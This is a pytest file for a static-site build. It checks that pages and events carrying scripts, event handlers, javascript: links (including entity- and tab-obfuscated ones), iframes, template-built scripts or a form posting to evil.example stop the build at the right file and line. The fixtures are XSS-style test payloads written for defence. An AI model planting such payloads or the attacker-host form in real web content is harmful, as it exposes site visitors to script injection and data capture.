"""Content can never run script: hostile pages and events stop the build at file:line.

Copies of the project (real config, theme and hooks; tests/sitebuild.py) with a hostile docs
page (where imported posts go, docs/<lang>/beitraege/) and a hostile event. Front-matter text
is data: a <script> in a teaser stays visible text and does not stop the build.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from tests.sitebuild import (
    FIXTURE_EVENTS,
    FIXTURE_NOW,
    ROOT,
    BuildResult,
    built_pages,
    make_fixture_project,
    run_mkdocs_build,
)

HOSTILE_PAGE = """\
---
title: Feindlicher Beitrag
teaser: "Im Teaser ist <script>alert('teaser')</script> nur Text."
---

# Feindlicher Beitrag

Erklärt: `<script>` und `onclick=` gehören nicht in Seiten.

<script>alert("seite")</script>

[Klick](https://example.org/){ onclick="alert(1)" }

![Logo](../../assets/images/logo.svg){ onerror="alert(2)" }

[Markdown-Link](javascript:alert(3))

<a href="javascript:alert(4)">roher Link</a>

[kodiert](&#106;avascript:alert(5))

<meta charset="iso-8859-1">

```html
<script>alert("nur Code")</script>
<a href="javascript:x" onclick="y()">Code</a>
```
"""

HOSTILE_EVENT = """\
---
title: Veranstaltung mit aktivem Inhalt <script>alert('titel')</script>
teaser: "Teaser <script>alert('teaser')</script>"
start: 2026-09-01 18:00
end: "20:00"
location:
  name: Innovation Office
---
Ein harmloser Absatz.

<iframe src="https://example.org/"></iframe>

[Anmelden](java&#x09;script:alert(6))
"""

JINJA_PAGE = """\
---
title: Vorlage mit Skript
jinja: true
---

# Vorlage mit Skript

{{ "<scr" ~ "ipt>alert('jinja')</scr" ~ "ipt>" }}
"""

# A page with a pretix box: our hook puts trusted markup into its Markdown; the check
# reads the page's own source instead, and still finds the form below the box.
WIDGET_PAGE = """\
---
title: Anmeldung
---

# Anmeldung

{% include pretix-widget.html event="ki-zivil-11" %}

<form action="https://evil.example/"><input name="x"></form>
"""

PAGE_PATH = "docs/de/beitraege/feindlich.md"
WIDGET_PAGE_PATH = "docs/de/beitraege/anmeldung.md"
EVENT_PATH = "events/de/aktiv.md"


def line_of(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


def _project(target: Path, pages: dict[str, str]) -> Path:
    """A fixture project with its own copy of docs/ (plus `pages`) and the fixture events."""
    events = target.parent / f"{target.name}-events"
    shutil.copytree(FIXTURE_EVENTS, events)
    for rel, text in pages.items():
        if rel.startswith("events/"):
            (events / rel.removeprefix("events/")).write_text(text, encoding="utf-8")
    config = make_fixture_project(target, events)
    (target / "docs").unlink()
    shutil.copytree(ROOT / "docs", target / "docs")
    for rel, text in pages.items():
        if rel.startswith("docs/"):
            (target / rel).parent.mkdir(parents=True, exist_ok=True)
            (target / rel).write_text(text, encoding="utf-8")
    return config


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    project = tmp_path_factory.mktemp("hostile") / "project"
    pages = {PAGE_PATH: HOSTILE_PAGE, WIDGET_PAGE_PATH: WIDGET_PAGE, EVENT_PATH: HOSTILE_EVENT}
    config = _project(project, pages)
    return run_mkdocs_build(config, project / "site", env={"SITE_NOW": FIXTURE_NOW})


def test_active_content_stops_the_build_without_traceback(hostile_build: BuildResult) -> None:
    assert hostile_build.returncode != 0
    assert "Traceback" not in hostile_build.output
    assert not (hostile_build.site_dir / "beitraege" / "feindlich" / "index.html").exists()


@pytest.mark.parametrize(
    ("needle", "key"),
    [
        ('<script>alert("seite")', "<script>"),
        ('{ onclick="alert(1)" }', "onclick="),
        ('{ onerror="alert(2)" }', "onerror="),
        ("(javascript:alert(3))", 'href="javascript:…"'),
        ('"javascript:alert(4)"', 'href="javascript:…"'),
        ("(&#106;avascript:alert(5))", 'href="javascript:…"'),
        ('<meta charset="iso-8859-1">', "<meta>"),
    ],
)
def test_each_finding_in_a_page_names_file_and_line(
    hostile_build: BuildResult, needle: str, key: str
) -> None:
    line = line_of(HOSTILE_PAGE, needle)
    assert f"{PAGE_PATH}:{line}: {key}: " in hostile_build.output


@pytest.mark.parametrize(
    ("needle", "key"),
    [
        ('<iframe src="https://example.org/">', "<iframe>"),
        ("java&#x09;script:", 'href="javascript:…"'),
    ],
)
def test_findings_in_an_event_body_name_the_event_file(
    hostile_build: BuildResult, needle: str, key: str
) -> None:
    line = line_of(HOSTILE_EVENT, needle)
    assert f"{EVENT_PATH}:{line}: {key}: " in hostile_build.output


def test_a_page_with_a_pretix_box_is_checked_on_its_source(hostile_build: BuildResult) -> None:
    reported = re.findall(rf"{re.escape(WIDGET_PAGE_PATH)}:(\d+): (\S+): ", hostile_build.output)
    assert reported == [(str(line_of(WIDGET_PAGE, "<form")), "<form>")]


def test_message_says_what_to_use_instead(hostile_build: BuildResult) -> None:
    message = next(line for line in hostile_build.output.splitlines() if f"{EVENT_PATH}:" in line)
    assert "{% include pretix-widget.html" in message
    assert "[Text](https://…)" in message


def test_code_and_front_matter_are_not_findings(hostile_build: BuildResult) -> None:
    reported = {
        int(m.group(1))
        for m in re.finditer(rf"{re.escape(PAGE_PATH)}:(\d+):", hostile_build.output)
    }
    assert reported, hostile_build.output
    not_findings = [
        line_of(HOSTILE_PAGE, "teaser:"),
        line_of(HOSTILE_PAGE, "Erklärt:"),
        line_of(HOSTILE_PAGE, '<script>alert("nur Code")'),
        line_of(HOSTILE_PAGE, '<a href="javascript:x"'),
    ]
    assert not reported & set(not_findings)
    event_lines = {
        int(m.group(1))
        for m in re.finditer(rf"{re.escape(EVENT_PATH)}:(\d+):", hostile_build.output)
    }
    assert event_lines == {
        line_of(HOSTILE_EVENT, "<iframe"),
        line_of(HOSTILE_EVENT, "java&#x09;script:"),
    }


def test_a_script_made_by_a_template_stops_the_build_at_the_csp_check(
    tmp_path: Path,
) -> None:
    # A `jinja: true` page can make a script the Markdown check cannot see; the policy
    # does not bless it: the build stops naming the page.
    project = tmp_path / "project"
    config = _project(project, {"docs/de/beitraege/vorlage.md": JINJA_PAGE})
    result = run_mkdocs_build(config, project / "site", env={"SITE_NOW": FIXTURE_NOW})
    assert result.returncode != 0
    assert "Traceback" not in result.output
    assert "de/beitraege/vorlage.md" in result.output
    assert "alert('jinja')" in result.output


def test_script_in_teasers_and_titles_stays_visible_text(fixture_site: BuildResult) -> None:
    # tests/fixtures/events/*/feindlich.md: <script> in title and teaser; the build passed.
    page = fixture_site.page("events/feindlich/index.html")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    for built in built_pages(fixture_site.site_dir):
        assert "<script>alert(" not in built.read_text(encoding="utf-8"), built
